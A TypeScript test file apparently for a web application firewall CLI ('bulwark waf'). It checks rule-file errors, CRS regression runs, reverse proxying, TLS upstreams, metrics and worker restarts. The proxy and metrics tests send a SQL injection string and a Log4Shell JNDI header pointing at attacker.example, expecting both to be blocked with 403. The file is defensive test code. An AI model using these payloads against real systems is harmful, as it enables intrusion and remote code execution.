/**
 * `bulwark waf` through the real CLI: the go-ftw runner on CRS tests (summary line, failures
 * listed, exit codes, Bulwark's override file checked against the real proxy), malformed rule
 * files as one line with exit 2, and the reverse proxy in front of a live upstream on loopback.
 */
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, request } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseFtwOverrides } from '@bulwark/seclang';
import { CLI, runCli } from './helpers/run-cli.js';

const CRS = resolve(import.meta.dirname, '../../shared/data/crs');
const TLS_CERT = resolve(import.meta.dirname, '../packages/seclang/test/fixtures/tls/upstream.crt');

const freePort = (): Promise<number> =>
  new Promise((ok) => {
    const s = createServer();
    s.listen(0, '127.0.0.1', () => {
      const { port } = s.address() as AddressInfo;
      s.close(() => ok(port));
    });
  });

/** Resolves when a `bulwark waf …` child prints that it listens. */
const ready = (child: ReturnType<typeof spawn>): Promise<void> =>
  new Promise((ok, fail) => {
    child.stderr?.on('data', (d: Buffer) => (d.toString().includes('listening on') ? ok() : undefined));
    child.on('exit', (code) => fail(new Error(`exited ${String(code)}`)));
  });

type Answer = { status: number; body: string };

/** A GET over loopback with a browser's basic headers (plus `headers`), each on a new connection, so every worker of a `--workers 2` WAF takes some. */
const httpGet = (port: number, path: string, headers: Record<string, string> = {}): Promise<Answer> =>
  new Promise((ok, fail) => {
    request({ host: '127.0.0.1', port, path, agent: false, headers: { host: 'shop.example', 'user-agent': 'Mozilla/5.0', accept: 'text/html', ...headers } }, (res) => {
      let body = '';
      res.on('data', (c: Buffer) => (body += c.toString()));
      res.on('end', () => ok({ status: res.statusCode ?? 0, body }));
    })
      .on('error', fail)
      .end();
  });

/** A plain HTTP app on a free loopback port, for the WAF to proxy to. */
const startUpstream = async (handler: Parameters<typeof createServer>[1]): Promise<{ server: ReturnType<typeof createServer>; port: number }> => {
  const server = createServer(handler);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as AddressInfo).port };
};

describe('bulwark waf: rule errors', () => {
  it('a malformed rule file is one line naming file and line, exit 2', () => {
    const dir = mkdtempSync(join(tmpdir(), 'waf-rules-'));
    writeFileSync(join(dir, 'bad.conf'), 'SecRuleEngine On\nSecRule ARGS "@rx (unclosed" "id:1,phase:2,deny"\n');
    const r = runCli(['waf', 'test', dir, '--rules', join(dir, 'bad.conf')]);
    expect(r.status).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/bad\.conf:2/);
    writeFileSync(join(dir, 'bad.conf'), 'SecRuleEngine On\nSecNoSuchThing x\n');
    const unknown = runCli(['waf', 'test', dir, '--rules', join(dir, 'bad.conf')]);
    expect(unknown.status).toBe(2);
    expect(unknown.stderr).toMatch(/bad\.conf:2: unknown directive SecNoSuchThing/);
  });

  it('a bad --upstream-timeout is one usage line, exit 2', () => {
    const r = runCli(['waf', '--upstream', 'http://127.0.0.1:9', '--upstream-timeout', 'soon']);
    expect(r.status).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/--upstream-timeout.*'soon' is not a number of seconds above 0/);
  });

  it('upstream URL and CA mistakes are one usage line each, exit 2', () => {
    const cases: [string[], RegExp][] = [
      [['--upstream', 'ftp://127.0.0.1:9'], /--upstream.*the upstream is http:\/\/ or https:\/\//],
      [['--upstream', 'http://127.0.0.1:9', '--upstream-ca', TLS_CERT], /--upstream-ca.*only applies to an https:\/\/ upstream/],
      [['--upstream', 'https://127.0.0.1:9', '--upstream-ca', '/nonexistent/ca.pem'], /\/nonexistent\/ca\.pem.*cannot read the --upstream-ca file/],
      [['--upstream', 'https://127.0.0.1:9', '--upstream-ca', resolve(import.meta.dirname, '../packages/seclang/test/fixtures/tls/README.md')], /README\.md.*no PEM certificate/],
    ];
    for (const [args, message] of cases) {
      const r = runCli(['waf', ...args, '--rules', CRS]);
      expect(r.status).toBe(2);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toMatch(message);
    }
  });

  it('a failing go-ftw test is listed and the run exits 1', () => {
    const dir = mkdtempSync(join(tmpdir(), 'waf-ftw-'));
    writeFileSync(join(dir, 'rules.conf'), 'SecRuleEngine On\nSecRule ARGS "@contains evil" "id:10,phase:1,deny,log"\n');
    writeFileSync(
      join(dir, 't.yaml'),
      ['rule_id: 10', 'tests:', '  - test_id: 1', '    stages:', '      - input: {uri: "/?a=evil", headers: {Host: localhost}}', '        output: {log: {expect_ids: [10]}, status: 403}', '  - test_id: 2', '    stages:', '      - input: {uri: "/?a=fine", headers: {Host: localhost}}', '        output: {log: {expect_ids: [10]}}', ''].join('\n'),
    );
    const r = runCli(['waf', 'test', dir, '--rules', join(dir, 'rules.conf'), '--no-regression-profile', '--no-virtual-patches']);
    expect(r.status).toBe(1);
    expect(r.stdout).toContain('FAIL 10-2: expected ids not logged: 10');
    expect(r.stdout.trim().split('\n').pop()).toBe('1 passed, 1 failed');
  });
});

describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
  it('waf test passes the CRS PHP-injection suite', () => {
    const r = runCli(['waf', 'test', join(CRS, 'tests/regression/tests/REQUEST-933-APPLICATION-ATTACK-PHP'), '--rules', CRS], { timeoutMs: 120_000 });
    expect(r.stdout.trim().split('\n').pop()).toMatch(/^\d{3,} passed, 0 failed$/);
    expect(r.status).toBe(0);
  }, 120_000);

  /** `bulwark waf test DIR --url` against `bulwark waf` (regression profile) in front of `bulwark waf echo`. */
  async function throughProxy(dir: string, extra: string[] = []): Promise<{ code: number | null; out: string }> {
    const [echoPort, wafPort] = [await freePort(), await freePort()];
    const log = join(mkdtempSync(join(tmpdir(), 'waf-url-')), 'audit.jsonl');
    const echo = spawn(process.execPath, [CLI, 'waf', 'echo', '--listen', `127.0.0.1:${echoPort}`], { stdio: ['ignore', 'ignore', 'pipe'] });
    const waf = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${wafPort}`, '--upstream', `http://127.0.0.1:${echoPort}`, '--rules', CRS, '--config', resolve(import.meta.dirname, '../packages/seclang/conf/crs-regression.conf'), '--audit-log', log, '--audit-all'], { stdio: ['ignore', 'ignore', 'pipe'] });
    try {
      await Promise.all([ready(echo), ready(waf)]);
      const run = spawn(process.execPath, [CLI, 'waf', 'test', dir, '--url', `http://127.0.0.1:${wafPort}`, '--log-file', log, ...extra], { stdio: ['ignore', 'pipe', 'pipe'] });
      let out = '';
      run.stdout.on('data', (d: Buffer) => (out += d.toString()));
      const code = await new Promise<number | null>((r) => run.on('exit', r));
      return { code, out };
    } finally {
      echo.kill('SIGTERM');
      waf.kill('SIGTERM');
    }
  }

  it('waf test --url runs the suite against a running bulwark waf in front of bulwark waf echo', async () => {
    const { code, out } = await throughProxy(join(CRS, 'tests/regression/tests/REQUEST-913-SCANNER-DETECTION'));
    expect(out.trim().split('\n').pop()).toMatch(/^\d+ passed, 0 failed$/);
    expect(code).toBe(0);
  }, 120_000);

  it("Bulwark's override file names exactly the protocol tests Node's HTTP server decides, and with it they pass", async () => {
    // The files every override entry touches, plus the rest of the protocol-enforcement suite.
    const dir = mkdtempSync(join(tmpdir(), 'waf-overrides-'));
    const tests = join(CRS, 'tests/regression/tests');
    for (const file of ['REQUEST-911-METHOD-ENFORCEMENT/911100.yaml', 'REQUEST-921-PROTOCOL-ATTACK/921110.yaml', 'REQUEST-934-APPLICATION-ATTACK-GENERIC/934120.yaml', 'REQUEST-949-BLOCKING-EVALUATION/949110.yaml']) symlinkSync(join(tests, file), join(dir, file.split('/')[1] as string));
    symlinkSync(join(tests, 'REQUEST-920-PROTOCOL-ENFORCEMENT'), join(dir, 'REQUEST-920-PROTOCOL-ENFORCEMENT'));
    const overridesFile = resolve(import.meta.dirname, '../packages/seclang/conf/bulwark-overrides.yaml');
    const overridden = parseFtwOverrides(readFileSync(overridesFile, 'utf8')).flatMap((o) => o.testIds.map((id) => `${o.ruleId}-${id}`));
    expect(overridden).toHaveLength(26);

    const plain = await throughProxy(dir);
    const failing = [...plain.out.matchAll(/^FAIL (\d+-\d+):/gm)].map((m) => m[1]);
    expect(failing.sort()).toEqual([...overridden].sort());

    const withOverrides = await throughProxy(dir, ['--overrides', overridesFile]);
    expect(withOverrides.out.trim().split('\n').pop()).toMatch(/^\d{3,} passed, 0 failed$/);
    expect(withOverrides.code).toBe(0);
  }, 180_000);

  it('serves as a reverse proxy: benign requests pass, SQL injection and Log4Shell get 403', async () => {
    const { server: upstream, port: upstreamPort } = await startUpstream((req, res) => res.end(`upstream saw ${req.url ?? ''}`));
    const probe = createServer();
    await new Promise<void>((r) => probe.listen(0, '127.0.0.1', r));
    const port = (probe.address() as AddressInfo).port;
    await new Promise<void>((r) => probe.close(() => r()));
    const child = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${port}`, '--upstream', `http://127.0.0.1:${upstreamPort}`, '--rules', CRS], { stdio: ['ignore', 'ignore', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    try {
      await ready(child);
      // The start-up line is the README's, and even the default run is one supervised worker with the workers' GC setting.
      const readmeLine = /^bulwark waf: .* -> http:\/\/127\.0\.0\.1:3000$/m.exec(readFileSync(resolve(import.meta.dirname, '../README.md'), 'utf8'))?.[0];
      expect(stderr.trim()).toBe(readmeLine?.replace('127.0.0.1:8080', `127.0.0.1:${port}`).replace('127.0.0.1:3000', `127.0.0.1:${upstreamPort}`));
      const workers = spawnSync('pgrep', ['-P', String(child.pid)], { encoding: 'utf8' }).stdout.trim().split('\n').filter(Boolean).map(Number);
      expect(workers).toHaveLength(1);
      expect(readFileSync(`/proc/${String(workers[0])}/cmdline`, 'latin1').split('\0')).toContain('--max-semi-space-size=32');
      const get = (path: string, headers: Record<string, string> = {}): Promise<Answer> => httpGet(port, path, headers);
      expect(await get('/products?id=42&sort=price')).toEqual({ status: 200, body: 'upstream saw /products?id=42&sort=price' });
      expect((await get("/products?id=1'%20or%20'1'='1")).status).toBe(403);
      expect((await get('/', { 'x-api-version': '${jndi:ldap://attacker.example/a}' })).status).toBe(403);
      // The one worker is replaced when it dies, and the WAF serves again.
      process.kill(workers[0] as number, 'SIGKILL');
      for (let i = 0; i < 100 && !stderr.includes('starting another'); i++) await new Promise((r) => setTimeout(r, 100));
      expect(stderr).toContain(`worker ${String(workers[0])} exited (SIGKILL); starting another`);
      // With no worker left the listener closes until the new one has loaded the rules.
      let after: Answer | undefined;
      for (let i = 0; i < 150 && !after; i++) after = await get('/products?id=7').catch(() => new Promise<undefined>((r) => setTimeout(() => r(undefined), 100)));
      expect(after).toEqual({ status: 200, body: 'upstream saw /products?id=7' });
    } finally {
      child.kill('SIGTERM');
      upstream.close();
    }
  }, 60_000);

  it('proxies to an https upstream it trusts through --upstream-ca, and says why it refuses one it does not', async () => {
    const upstream = createHttpsServer({ cert: readFileSync(TLS_CERT), key: readFileSync(TLS_CERT.replace(/crt$/, 'key')) }, (req, res) => res.end(`tls upstream saw ${req.url ?? ''}`));
    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
    const upstreamUrl = `https://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
    const dir = mkdtempSync(join(tmpdir(), 'waf-tls-'));
    writeFileSync(join(dir, 'rules.conf'), 'SecRuleEngine On\n');
    const children: ReturnType<typeof spawn>[] = [];
    const start = async (extra: string[]): Promise<{ port: number; stderr: () => string }> => {
      const port = await freePort();
      const child = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${port}`, '--upstream', upstreamUrl, '--rules', join(dir, 'rules.conf'), ...extra], { stdio: ['ignore', 'ignore', 'pipe'] });
      children.push(child);
      let stderr = '';
      child.stderr?.on('data', (d: Buffer) => (stderr += d.toString()));
      await ready(child);
      return { port, stderr: () => stderr };
    };
    const get = (port: number): Promise<Answer> => httpGet(port, '/orders?id=7');
    try {
      const trusted = await start(['--upstream-ca', TLS_CERT]);
      expect(await get(trusted.port)).toEqual({ status: 200, body: 'tls upstream saw /orders?id=7' });
      const untrusted = await start([]);
      expect((await get(untrusted.port)).status).toBe(502);
      expect((await get(untrusted.port)).status).toBe(502);
      // One line per kind of failure, not one per request.
      expect(untrusted.stderr().match(/bulwark waf: upstream https:\/\/127\.0\.0\.1:\d+: self[- ]signed certificate/gi)).toHaveLength(1);
    } finally {
      for (const child of children) child.kill('SIGTERM');
      upstream.close();
    }
  }, 60_000);

  it('--metrics-listen: the primary serves the counters of all workers as one Prometheus text', async () => {
    const { server: upstream, port: upstreamPort } = await startUpstream((_req, res) => res.end('ok'));
    const [port, metricsPort] = [await freePort(), await freePort()];
    const child = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${port}`, '--upstream', `http://127.0.0.1:${upstreamPort}`, '--rules', CRS, '--workers', '2', '--metrics-listen', `127.0.0.1:${metricsPort}`], { stdio: ['ignore', 'ignore', 'pipe'] });
    try {
      await ready(child);
      const statuses: number[] = [];
      for (let i = 0; i < 6; i++) statuses.push((await httpGet(port, `/products?id=${i}`)).status);
      statuses.push((await httpGet(port, "/products?id=1'%20or%20'1'='1")).status);
      expect(statuses).toEqual([200, 200, 200, 200, 200, 200, 403]);
      await new Promise((r) => setTimeout(r, 1500)); // past the workers' one-second report
      const metrics = await httpGet(metricsPort, '/metrics');
      expect(metrics.status).toBe(200);
      const count = (outcome: string): number => Number(new RegExp(`^bulwark_waf_requests_total\\{outcome="${outcome}"\\} (\\d+)$`, 'm').exec(metrics.body)?.[1] ?? NaN);
      expect(count('passed') + count('detected')).toBe(6);
      expect(count('blocked')).toBe(1);
      expect((await httpGet(metricsPort, '/other')).status).toBe(404);
    } finally {
      child.kill('SIGTERM');
      upstream.close();
    }
  }, 60_000);

  it('--workers: SIGTERM after proxied traffic stops primary and workers quietly; a killed primary leaves no orphans; a killed worker is replaced', async () => {
    const { server: upstream, port: upstreamPort } = await startUpstream((_req, res) => res.end('ok'));
    const alive = (pid: number): boolean => {
      try {
        process.kill(pid, 0);
        return true;
      } catch {
        return false;
      }
    };
    const start = async (): Promise<{ child: ReturnType<typeof spawn>; workers: number[]; port: number; stderr: () => string }> => {
      const port = await freePort();
      const child = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${port}`, '--upstream', `http://127.0.0.1:${upstreamPort}`, '--rules', CRS, '--workers', '2'], { stdio: ['ignore', 'ignore', 'pipe'] });
      let stderr = '';
      child.stderr?.on('data', (d: Buffer) => (stderr += d.toString()));
      await ready(child);
      const workers = spawnSync('pgrep', ['-P', String(child.pid)], { encoding: 'utf8' }).stdout.trim().split('\n').filter(Boolean).map(Number);
      return { child, workers, port, stderr: () => stderr };
    };
    // Traffic leaves keep-alive sockets to the upstream open in the workers.
    const traffic = (port: number): Promise<void[]> =>
      Promise.all(Array.from({ length: 8 }, () => new Promise<void>((ok, fail) => request({ host: '127.0.0.1', port, path: '/?id=1', headers: { host: 'shop.example', 'user-agent': 'Mozilla/5.0', accept: 'text/html' } }, (res) => res.resume().on('end', ok)).on('error', fail).end())));
    try {
      const a = await start();
      expect(a.workers).toHaveLength(2);
      // Workers get the larger young generation (fewer young collections per request).
      for (const pid of a.workers) expect(readFileSync(`/proc/${pid}/cmdline`, 'latin1').split('\0')).toContain('--max-semi-space-size=32');
      await traffic(a.port);
      const exited = new Promise<number | null>((ok) => a.child.on('exit', (code) => ok(code)));
      a.child.kill('SIGTERM');
      expect(await exited).toBe(0);
      await new Promise((r) => setTimeout(r, 1500)); // past the workers' metrics timer
      expect(a.workers.filter(alive)).toEqual([]);
      expect(a.stderr()).not.toMatch(/Error|\n\s+at /);

      const b = await start();
      await traffic(b.port);
      b.child.kill('SIGKILL');
      for (let i = 0; i < 100 && b.workers.some(alive); i++) await new Promise((r) => setTimeout(r, 100));
      expect(b.workers.filter(alive)).toEqual([]);
      expect(b.stderr()).not.toMatch(/Error|\n\s+at /);

      // A worker that dies is replaced, and the WAF keeps serving.
      const c = await start();
      const [victim] = c.workers;
      process.kill(victim as number, 'SIGKILL');
      let replaced: number[] = [];
      for (let i = 0; i < 100; i++) {
        replaced = spawnSync('pgrep', ['-P', String(c.child.pid)], { encoding: 'utf8' }).stdout.trim().split('\n').filter(Boolean).map(Number);
        if (replaced.length === 2 && !replaced.includes(victim as number) && /worker \d+ exited \(SIGKILL\); starting another/.test(c.stderr())) break;
        await new Promise((r) => setTimeout(r, 100));
      }
      expect(replaced).toHaveLength(2);
      expect(replaced).not.toContain(victim);
      expect(c.stderr()).toContain(`worker ${String(victim)} exited (SIGKILL); starting another`);
      await new Promise((r) => setTimeout(r, 2500)); // the new worker loads the CRS before it listens
      await traffic(c.port);
      const stopped = new Promise<number | null>((ok) => c.child.on('exit', (code) => ok(code)));
      c.child.kill('SIGTERM');
      expect(await stopped).toBe(0);

      // Workers that keep dying stop the WAF with exit 70 instead of a restart spin.
      const rules = join(mkdtempSync(join(tmpdir(), 'waf-loop-')), 'tiny.conf');
      writeFileSync(rules, 'SecRuleEngine On\n');
      const loop = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${await freePort()}`, '--upstream', `http://127.0.0.1:${upstreamPort}`, '--rules', rules, '--workers', '2', '--no-virtual-patches'], { stdio: ['ignore', 'ignore', 'pipe'] });
      let loopErr = '';
      loop.stderr?.on('data', (d: Buffer) => (loopErr += d.toString()));
      await ready(loop);
      const loopExit = new Promise<number | null>((ok) => loop.on('exit', (code) => ok(code)));
      let exitCode: number | null | undefined;
      void loopExit.then((code) => (exitCode = code));
      for (let i = 0; i < 200 && exitCode === undefined; i++) {
        for (const pid of spawnSync('pgrep', ['-P', String(loop.pid)], { encoding: 'utf8' }).stdout.trim().split('\n').filter(Boolean).map(Number)) if (alive(pid)) process.kill(pid, 'SIGKILL');
        await new Promise((r) => setTimeout(r, 50));
      }
      expect(await loopExit).toBe(70);
      expect(loopErr).toMatch(/5 workers died within 10 s \(last: SIGKILL\); stopping/);
    } finally {
      upstream.close();
    }
  }, 120_000);
});
